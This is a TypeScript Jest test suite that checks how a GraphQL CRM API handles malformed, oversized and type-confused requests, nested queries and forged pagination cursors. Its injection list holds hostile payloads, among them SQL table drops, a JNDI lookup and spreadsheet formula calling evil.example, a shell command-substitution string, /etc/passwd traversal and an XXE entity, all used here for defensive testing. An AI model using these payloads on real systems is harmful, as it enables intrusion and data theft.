import { beforeAll, describe, expect, test } from "@jest/globals";

import { type HostileAnswer, useTarget } from "./target.ts";

const target = useTarget();

beforeAll(async () => {
  const company = { name: "Acme", address: { city: "Ålesund" } };
  await target.post({
    query:
      "mutation ($input: CreateCompanyInput!) { createCompany(input: $input) { clientMutationId } }",
    variables: { input: { company } },
  });
});

/** What came of a request, in short: `200`, or the status and the codes of its errors. */
const outcome = ({ status, codes }: HostileAnswer) => [status, ...new Set(codes)].join(" ");

const badRequest = "400 BAD_REQUEST";
const undecided = "200 BAD_REQUEST";
const unparsed = "200 GRAPHQL_PARSE_FAILED";
const invalid = "200 GRAPHQL_VALIDATION_FAILED";
const faulty = "200 VALIDATION_ERROR";
const tooComplex = "200 QUERY_TOO_COMPLEX";

const good = "{ currentUserId }";
const nested = (open: string, inner: string, close: string, times: number) =>
  open.repeat(times) + inner + close.repeat(times);

describe("bodies", () => {
  test.each([
    ["nothing", "", badRequest],
    ["white space", " \n\t", badRequest],
    ["NUL", "\0", badRequest],
    ["half an object", `{"query": "{ __typename`, badRequest],
    ["two objects", `{"query": "${good}"}{"query": "${good}"}`, badRequest],
    ["JSON lines", `{"query": "${good}"}\n{"query": "${good}"}`, badRequest],
    ["a comma behind", `{"query": "${good}",}`, badRequest],
    ["single quotes", `{'query': '${good}'}`, badRequest],
    ["a comment", `/* */{"query": "${good}"}`, badRequest],
    ["a document as it is", good, badRequest],
    ["a form", `query=${encodeURIComponent(good)}`, badRequest],
    [
      "XML",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
      badRequest,
    ],
    ["a serialised object", `O:8:"stdClass":0:{}`, badRequest],
    ["null", "null", badRequest],
    ["a boolean", "true", badRequest],
    ["a number", "7", badRequest],
    ["a string", `"${good}"`, badRequest],
    ["no request in a batch", "[]", badRequest],
    ["a batch of one", `[{"query": "${good}"}]`, badRequest],
    [
      "a batch of many",
      `[${Array.from({ length: 50 }, () => `{"query": "${good}"}`).join()}]`,
      badRequest,
    ],
    ["no query", "{}", badRequest],
    ["a query that is null", `{"query": null}`, badRequest],
    ["a query that is a number", `{"query": 7}`, badRequest],
    ["a query that is a list", `{"query": ["${good}"]}`, badRequest],
    ["a query that is an object", `{"query": {"toString": "x"}}`, badRequest],
    ["variables that are text", `{"query": "${good}", "variables": "{}"}`, badRequest],
    ["variables that are a list", `{"query": "${good}", "variables": []}`, badRequest],
    ["variables that are a number", `{"query": "${good}", "variables": 7}`, badRequest],
    ["a name that is a number", `{"query": "${good}", "operationName": 7}`, badRequest],
    ["a name that is a list", `{"query": "${good}", "operationName": []}`, badRequest],
    ["extensions that are text", `{"query": "${good}", "extensions": "x"}`, badRequest],
    ["onError that there is not", `{"query": "${good}", "onError": "EXPLODE"}`, badRequest],
    ["a byte order mark", `\uFEFF{"query": "${good}"}`, badRequest],
    [
      "members of a prototype",
      `{"query": "${good}", "__proto__": {"x": 1}, "constructor": {}}`,
      "200",
    ],
    ["a query twice", `{"query": "{", "query": "${good}"}`, "200"],
    [
      "a document in the extensions",
      `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "x"}}}`,
      "400 PERSISTED_QUERY_NOT_SUPPORTED",
    ],
    [
      "variables that nobody asked for",
      `{"query": "${good}", "variables": {"a": {"b": [1]}}}`,
      "200",
    ],
    ["lists nested 100,000 times", nested("[", "", "]", 100_000), badRequest],
    [
      "variables nested 20,000 times",
      `{"query": "${good}", "variables": {"a": ${nested("[", "", "]", 20_000)}}}`,
      tooComplex,
    ],
    ["more than may be sent", `{"query": "${" ".repeat(1_000_000)}"}`, "413 PAYLOAD_TOO_LARGE"],
  ])("that are %s", async (_, body, expected) => {
    expect(outcome(await target.post(body))).toBe(expected);
  });
});

describe("documents", () => {
  test.each([
    ["nothing", "", badRequest],
    ["a comment only", "# nothing", unparsed],
    ["no operation", "fragment f on Query { __typename }", invalid],
    ["half a selection", "{ contacts {", unparsed],
    ["one brace too many", "{ __typename } }", unparsed],
    ["an empty selection", "{ }", unparsed],
    ["braces nested 10,000 times", nested("{a", "", "}", 10_000), tooComplex],
    [
      "brackets nested 5000 times",
      `{ contacts(filter: ${nested("[", "", "]", 5000)}) { totalCount } }`,
      tooComplex,
    ],
    ["NUL", "{ __typename \0 }", unparsed],
    ["a lone surrogate", "{ __typename \ud800 }", unparsed],
    ["a byte order mark", "\uFEFF{ __typename }", "200"],
    ["a name with letters of another script", "{ соntacts { totalCount } }", unparsed],
    ["a string that does not end", `{ contact(id: "x) { id } }`, unparsed],
    ["an escape that there is not", String.raw`{ contact(id: "\x27") { id } }`, unparsed],
    ["a surrogate by an escape", String.raw`{ contact(id: "\uD800") { id } }`, unparsed],
    ["a number with a leading zero", "{ contacts(first: 007) { totalCount } }", unparsed],
    ["SQL", "select * from crm.contacts", unparsed],
    ["a definition of a schema", "type Query { a: Int }", invalid],
    ["an extension of a schema", "extend type Query { a: Int }", invalid],
    ["a subscription", "subscription { __typename }", invalid],
    ["two operations, and none is named", "{ __typename } { __typename }", invalid],
    ["two operations of one name", "query a { __typename } query a { __typename }", invalid],
    ["two operations to choose from", "query a { __typename } query b { __typename }", undecided],
    ["a field that there is not", "{ passwords { nodes { hash } } }", invalid],
    ["a field of every object's", "{ __proto__ constructor toString }", invalid],
    ["a field of the catalog", "{ pgRoles { nodes { rolpassword } } }", invalid],
    [
      "a field of the audit log",
      "mutation { deleteAuditLog(input: {}) { clientMutationId } }",
      invalid,
    ],
    ["no selection of an object", "{ contacts }", invalid],
    ["a selection of a scalar", "{ currentUserId { length } }", invalid],
    ["a fragment of itself", "{ ...f } fragment f on Query { ...f }", tooComplex],
    [
      "fragments in a circle",
      "{ ...a } fragment a on Query { ...b } fragment b on Query { ...a }",
      tooComplex,
    ],
    ["a fragment that there is not", "{ ...f }", invalid],
    ["a fragment that nobody uses", "{ __typename } fragment f on Query { __typename }", invalid],
    [
      "a fragment twice",
      "{ ...f } fragment f on Query { __typename } fragment f on Query { __typename }",
      invalid,
    ],
    ["a fragment on a scalar", "{ ...f } fragment f on String { length }", invalid],
    ["a fragment on something else", "{ ... on Contact { id } }", invalid],
    [
      "fragments that double each other",
      "{ ...f0 } " +
        Array.from(
          { length: 20 },
          (_, i) =>
            `fragment f${i} on Query { ${i === 19 ? "__typename" : `a: query: x ...f${i + 1} ...f${i + 1}`} }`,
        ).join(" "),
      unparsed,
    ],
    [
      "fragments that grow by each other",
      "{ ...f0 } " +
        Array.from(
          { length: 25 },
          (_, i) =>
            `fragment f${i} on Query { ${i === 24 ? "__typename" : `...f${i + 1} ...f${i + 1}`} }`,
        ).join(" "),
      tooComplex,
    ],
    ["a variable that is not declared", "{ contact(id: $id) { id } }", invalid],
    ["a variable that nobody uses", "query ($id: ID) { __typename }", invalid],
    [
      "a variable twice",
      "query ($a: Int, $a: Int) { contacts(first: $a) { totalCount } }",
      invalid,
    ],
    ["a variable of an object type", "query ($a: Contact) { __typename }", invalid],
    ["a variable of a type that there is not", "query ($a: Password) { __typename }", invalid],
    [
      "a variable in the wrong place",
      "query ($a: String) { contacts(first: $a) { totalCount } }",
      invalid,
    ],
    [
      "a variable whose default is wrong",
      `query ($a: Int = "x") { contacts(first: $a) { totalCount } }`,
      invalid,
    ],
    ["an argument that there is not", "{ contacts(where: {}) { totalCount } }", invalid],
    ["an argument twice", "{ contacts(first: 1, first: 2) { totalCount } }", invalid],
    ["an argument that is missing", "{ contact { id } }", invalid],
    ["one name for two things", "{ a: currentUserId a: __typename }", invalid],
    [
      "one name for two sets of arguments",
      "{ contacts(first: 1) { nodes { id } } contacts(first: 2) { nodes { id } } }",
      invalid,
    ],
    ["a directive that there is not", "{ __typename @steal }", invalid],
    ["a directive in the wrong place", "query @skip(if: true) { __typename }", invalid],
    ["a directive twice", "{ __typename @skip(if: true) @skip(if: false) }", invalid],
    ["a directive whose condition is text", `{ __typename @include(if: "true") }`, faulty],
    ["a directive without a condition", "{ __typename @include }", invalid],
    ["@defer", "{ ... @defer { __typename } }", invalid],
    ["@stream", "{ contacts { nodes @stream { id } } }", invalid],
    ["all skipped", "{ __typename @skip(if: true) }", "200"],
    ["21 directives", `{ __typename ${"@a".repeat(21)} }`, tooComplex],
    [
      "31 aliases",
      `{ ${Array.from({ length: 31 }, (_, i) => `a${i}: __typename`).join(" ")} }`,
      tooComplex,
    ],
    ["1001 fields", `{ ${"__typename ".repeat(1001)} }`, tooComplex],
    ["2001 tokens", `{ ${"a ".repeat(2001)} }`, tooComplex],
    ["50,001 characters", `{ __typename ${" ".repeat(50_000)} }`, tooComplex],
    [
      "21 root fields",
      `{ ${Array.from({ length: 21 }, (_, i) => `a${i}: currentUserId`).join(" ")} }`,
      tooComplex,
    ],
    [
      "11 mutations",
      `mutation { ${Array.from({ length: 11 }, (_, i) => `a${i}: deleteNote(input: {id: "00000000-0000-4000-8000-00000000000${i % 10}"}) { clientMutationId }`).join(" ")} }`,
      tooComplex,
    ],
    [
      "relations in a circle",
      `{ ${nested("companies { nodes { deals { nodes { company { ", "name", " } } } } }", 3)} }`,
      tooComplex,
    ],
    [
      "pages of pages",
      "{ companies(first: 1000) { nodes { deals(first: 1000) { nodes { id } } } } }",
      tooComplex,
    ],
    ["a page of a million", "{ contacts(first: 1000000) { nodes { id } } }", tooComplex],
    ["a page of less than nothing", "{ contacts(first: -1) { nodes { id } } }", faulty],
    ["the whole schema", "{ __schema { types { name fields { name type { name } } } } }", invalid],
    ["a type", `{ __type(name: "Query") { name } }`, invalid],
    [
      "the schema in a fragment",
      "{ ...f } fragment f on Query { __schema { queryType { name } } }",
      invalid,
    ],
    ["the schema by another name", "{ a: __schema { b: queryType { c: name } } }", invalid],
    [
      "the schema behind a condition",
      "query ($a: Boolean = false) { __schema @include(if: $a) { queryType { name } } }",
      invalid,
    ],
    ["the schema from a mutation", "mutation { __schema { queryType { name } } }", invalid],
    ["the type of the schema alone", "{ __typename }", "200"],
  ])("that hold %s", async (_, query, expected) => {
    expect(outcome(await target.post({ query }))).toBe(expected);
  });

  test("that name an operation that there is not", async () => {
    const answer = await target.post({ query: "query a { __typename }", operationName: "b" });
    expect(outcome(answer)).toBe(undecided);
  });
});

/** Text that means something to whoever does not keep data and code apart. */
const injections = [
  "'",
  "''",
  `"`,
  "`",
  "\\",
  "\\'",
  "' or '1'='1",
  "' or 1=1 --",
  "'; drop table crm.contacts; --",
  "'; select pg_sleep(10); --",
  "' union all values (version()) --",
  "1); delete from crm.contacts; --",
  "$1",
  "$$; drop schema crm cascade; $$",
  "E'\\x27'",
  "U&'\\0027'",
  "ʼ or ʼ1ʼ=ʼ1",
  "%",
  "_",
  "%%%s%n%x",
  "*",
  "(?:a+)+$",
  "${7*7}{{7*7}}#{7*7}<%= 7*7 %>",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "../../../etc/passwd",
  "| cat /etc/passwd; `id` $(id)",
  '=HYPERLINK("http://evil.example")',
  "__proto__",
  "constructor",
  "null",
  "\r\nset-cookie: a=b",
  "\u202Egnp.exe",
  "Z\u0351\u036B\u0343\u036A\u0302",
  "👩‍👩‍👧‍👦",
  "\uFEFF",
  "\u{10FFFF}",
  "a".repeat(10_000),
];

const textOperators = `distinctFrom distinctFromInsensitive endsWith endsWithInsensitive equalTo
  equalToInsensitive greaterThan greaterThanInsensitive greaterThanOrEqualTo
  greaterThanOrEqualToInsensitive in inInsensitive includes includesInsensitive lessThan
  lessThanInsensitive lessThanOrEqualTo lessThanOrEqualToInsensitive like likeInsensitive
  notDistinctFrom notDistinctFromInsensitive notEndsWith notEndsWithInsensitive notEqualTo
  notEqualToInsensitive notIn notInInsensitive notIncludes notIncludesInsensitive notLike
  notLikeInsensitive notStartsWith notStartsWithInsensitive startsWith
  startsWithInsensitive`.split(/\s+/);

describe("text that is code elsewhere is text here", () => {
  // A pattern that ends with its escape character is none.
  const faults = (operator: string) => (/like/i.test(operator) ? { "\\": faulty } : {});

  test.each(textOperators)("as the operand of %s", async (operator) => {
    const query = "query ($filter: CompanyFilter) { companies(filter: $filter) { totalCount } }";
    const outcomes = new Map<string, string>();
    for (const text of injections) {
      const isList = /^(not)?in(Insensitive)?$/i.test(operator);
      const filter = { name: { [operator]: isList ? [text] : text } };
      const answer = await target.post({ query, variables: { filter } });
      if (outcome(answer) !== "200") outcomes.set(text.slice(0, 40), outcome(answer));
    }
    expect(Object.fromEntries(outcomes)).toEqual(faults(operator));
  });

  test("as what is stored, and found by it alone, but where it cannot be seen", async () => {
    // What breaks a line, runs backwards, is invisible or no character is no name.
    const names = injections.filter((text) => text.length < 255);
    const hidden = names.filter((text) => /[\r\n\u202E\uFEFF\u{10FFFF}]/u.test(text));
    expect(hidden).toHaveLength(4);
    for (const text of names) {
      const { body } = await target.post({
        query: `mutation ($input: CreateContactInput!) {
          createContact(input: $input) { contact { firstName } }
        }`,
        variables: { input: { contact: { firstName: text, lastName: text } } },
      });
      if (hidden.includes(text)) {
        expect(body).toMatchObject({
          data: { createContact: null },
          errors: [{ extensions: { code: "VALIDATION_ERROR" } }],
        });
        continue;
      }
      expect(body).toEqual({ data: { createContact: { contact: { firstName: text } } } });
      const found = await target.post({
        query: `query ($name: String!) {
          contacts(filter: { firstName: { equalTo: $name } }) { nodes { lastName } }
        }`,
        variables: { name: text },
      });
      expect(found.body).toEqual({ data: { contacts: { nodes: [{ lastName: text }] } } });
    }
  });

  const places: Record<
    string,
    [query: string, variables: (text: string) => unknown, outcome: string]
  > = {
    "an id": ["query ($v: ID!) { contact(id: $v) { id } }", (v) => ({ v }), faulty],
    "a date": [
      "query ($v: Date) { deals(filter: { closeDate: { equalTo: $v } }) { totalCount } }",
      (v) => ({ v }),
      faulty,
    ],
    "a time": [
      "query ($v: Datetime) { deals(filter: { createdAt: { lessThan: $v } }) { totalCount } }",
      (v) => ({ v }),
      faulty,
    ],
    "a number": [
      "query ($v: BigFloat) { deals(filter: { value: { lessThan: $v } }) { totalCount } }",
      (v) => ({ v }),
      faulty,
    ],
    "a page size": ["query ($v: Int) { deals(first: $v) { totalCount } }", (v) => ({ v }), faulty],
    "an order": [
      "query ($v: [DealOrderBy!]) { deals(orderBy: $v) { totalCount } }",
      (v) => ({ v: [v] }),
      faulty,
    ],
    "a grouping": [
      "query ($v: [DealGroupBy!]!) { deals { groupedAggregates(groupBy: $v) { keys } } }",
      (v) => ({ v: [v] }),
      faulty,
    ],
    "a cursor": [
      "query ($v: Cursor) { deals(after: $v) { nodes { id } } }",
      (v) => ({ v }),
      faulty,
    ],
    "a name in a filter": [
      "query ($v: DealFilter) { deals(filter: $v) { totalCount } }",
      (v) => ({ v: { [v]: { equalTo: 1 } } }),
      faulty,
    ],
    "an operator": [
      "query ($v: DealFilter) { deals(filter: $v) { totalCount } }",
      (v) => ({ v: { title: { [v]: 1 } } }),
      faulty,
    ],
    "a name in an input": [
      "mutation ($v: CreateNoteInput!) { createNote(input: $v) { clientMutationId } }",
      (v) => ({ v: { note: { [v]: 1 } } }),
      faulty,
    ],
    "the key of a custom field": [
      'mutation ($v: JSON) { createCompany(input: { company: { name: "x", customFields: $v } }) { clientMutationId } }',
      (v) => ({ v: JSON.parse(`{${JSON.stringify(v)}: 1}`) as unknown }),
      faulty,
    ],
    "the key of an address": [
      'mutation ($v: AddressInput) { createCompany(input: { company: { name: "x", address: $v } }) { clientMutationId } }',
      (v) => ({ v: JSON.parse(`{${JSON.stringify(v)}: "1"}`) as unknown }),
      faulty,
    ],
    "the name of a stage": [
      "mutation ($v: String!) { createPipelineStage(input: { pipelineStage: { name: $v, probability: 200, kind: open } }) { clientMutationId } }",
      (v) => ({ v }),
      faulty,
    ],
    "the name of a definition": [
      'mutation ($v: String!) { createCustomFieldDefinition(input: { customFieldDefinition: { name: $v, label: "x", entityType: deal, fieldType: text, enumValues: [] } }) { clientMutationId } }',
      (v) => ({ v }),
      faulty,
    ],
    "a mutation's own id": [
      'mutation ($v: String!) { createCompany(input: { clientMutationId: $v, company: { name: " " } }) { clientMutationId } }',
      (v) => ({ v }),
      faulty,
    ],
    "the name of an operation": [good, () => ({}), "200"],
  };
  test.each(Object.entries(places))("as %s", async (_, [query, variables, expected]) => {
    const outcomes = new Map<string, string>();
    for (const text of injections) {
      const answer = await target.post({ query, variables: variables(text) });
      if (outcome(answer) !== expected) outcomes.set(text.slice(0, 40), outcome(answer));
    }
    expect(Object.fromEntries(outcomes)).toEqual({});
  });
});

describe("values of another type", () => {
  const anything = [
    true,
    [],
    {},
    [1],
    { a: 1 },
    "",
    " ",
    "x",
    "NaN",
    "Infinity",
    "-0x1",
    "1,5",
    "\0",
    "\ud800",
    "١٢٣",
  ];
  const contacts = (type: string, filter: string) =>
    `query ($v: ${type}) { contacts(filter: { ${filter} }) { totalCount } }`;
  const deals = (type: string, filter: string) =>
    `query ($v: ${type}) { deals(filter: { ${filter} }) { totalCount } }`;
  const scalars: Record<string, [query: string, values: unknown[]]> = {
    ID: [
      contacts("ID", "id: { equalTo: $v }"),
      [
        ...anything,
        0,
        1.5,
        "00000000-0000-4000-8000-00000000000",
        "{00000000-0000-4000-8000-000000000000",
        "g0000000-0000-4000-8000-000000000000",
      ],
    ],
    String: [
      contacts("String", "firstName: { equalTo: $v }"),
      [true, {}, { a: 1 }, 0, 1.5, "\0", "\ud800", ["a", "b"]],
    ],
    Int: [
      deals("Int", "version: { equalTo: $v }"),
      [...anything, 1.5, 2 ** 31, -(2 ** 31) - 1, 1e300, "1"],
    ],
    Boolean: [
      deals("Boolean", "contactIdExists: $v, probability: { isNull: $v }").replace(
        "contactIdExists: $v, ",
        "",
      ),
      [[], {}, "true", "", 0, 1, "t", [1], [true, false]],
    ],
    BigInt: [
      "query ($v: BigInt) { auditLogs(filter: { id: { equalTo: $v } }) { totalCount } }",
      [...anything, 1.5, "1.5", "1e3", "9223372036854775808", "-9223372036854775809"],
    ],
    BigFloat: [
      deals("BigFloat", "value: { equalTo: $v }"),
      [...anything, "1e999999999", "1.2.3", "--1", "1_000", "0x1F", "infinity"],
    ],
    Date: [
      deals("Date", "closeDate: { equalTo: $v }"),
      [
        ...anything,
        0,
        20_170_101,
        "today",
        "infinity",
        "2017-02-29",
        "2017-13-01",
        "99999-01-01",
        "0000-00-00",
        "2017-01-01T00:00:00Z",
        "1.1.2017",
        "-0001-01-01",
      ],
    ],
    Datetime: [
      deals("Datetime", "createdAt: { equalTo: $v }"),
      [
        ...anything,
        0,
        1e12,
        "now",
        "infinity",
        "epoch",
        "2017-01-01T25:00:00Z",
        "2017-02-29T00:00:00Z",
        "2017-01-01T00:00:00 Europe/Berlin",
        "99999-01-01T00:00:00Z",
      ],
    ],
    Cursor: ["query ($v: Cursor) { deals(after: $v) { nodes { id } } }", [...anything, 0, 1.5]],
    DealOrderBy: [
      "query ($v: [DealOrderBy!]) { deals(orderBy: $v) { totalCount } }",
      [true, {}, "x", "", 0, [0], [[]], ["TITLE_ASC", "x"], "title_asc", "constructor", "toString"],
    ],
    ContactFilter: [
      "query ($v: ContactFilter) { contacts(filter: $v) { totalCount } }",
      [
        true,
        "x",
        0,
        [1],
        { x: 1 },
        { firstName: "x" },
        { firstName: [], x: 1 },
        { and: "x" },
        { and: [1] },
        { or: [{ x: 1 }] },
        { not: [{ a: 1 }, {}] },
        { company: { x: 1 } },
        JSON.parse('{"__proto__": 1}'),
      ],
    ],
  };
  test.each(Object.entries(scalars))("for %s are refused", async (_, [query, values]) => {
    const outcomes = new Map<string, string>();
    for (const v of values) {
      const answer = await target.post({ query, variables: { v } });
      if (outcome(answer) !== faulty) outcomes.set(JSON.stringify(v), outcome(answer));
    }
    expect(Object.fromEntries(outcomes)).toEqual({});
  });
});

describe("forged cursors", () => {
  const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64");
  const id = "00000000-0000-4000-8000-000000000000";
  test.each([
    ["no JSON", Buffer.from("nonsense").toString("base64")],
    ["an object", encode({ a: 1 })],
    ["a number", encode(7)],
    ["null", encode(null)],
    ["no values", encode([])],
    ["a hash that is not its own", encode(["x", id])],
    ["an object for a value", encode(["4aab0e2c26", { a: 1 }])],
    ["a statement for a value", encode(["4aab0e2c26", "'; drop table crm.deals; --"])],
    ["too many values", encode(["4aab0e2c26", ...Array.from({ length: 1000 }, () => id)])],
    ["lists nested deep", Buffer.from(nested("[", "", "]", 5000)).toString("base64")],
    ["100 kilobytes", "a".repeat(100_000)],
    ["characters that are not base64", "!!!!"],
  ])("that hold %s", async (_, cursor) => {
    for (const place of ["first: 1, after", "last: 1, before"]) {
      const query = `query ($cursor: Cursor) { deals(${place}: $cursor) { nodes { id } } }`;
      expect(outcome(await target.post({ query, variables: { cursor } }))).toBe(faulty);
    }
  });

  test("that were made for another list or order", async () => {
    const { body } = await target.post({
      query: "{ companies(first: 1, orderBy: [NAME_ASC]) { pageInfo { endCursor } } }",
    });
    const cursor = /"endCursor":"([^"]+)"/.exec(JSON.stringify(body))?.[1];
    for (const list of ["deals", "contacts", "companies"]) {
      const query = `query ($cursor: Cursor) { ${list}(after: $cursor) { nodes { id } } }`;
      expect(outcome(await target.post({ query, variables: { cursor } }))).toBe(faulty);
    }
  });
});
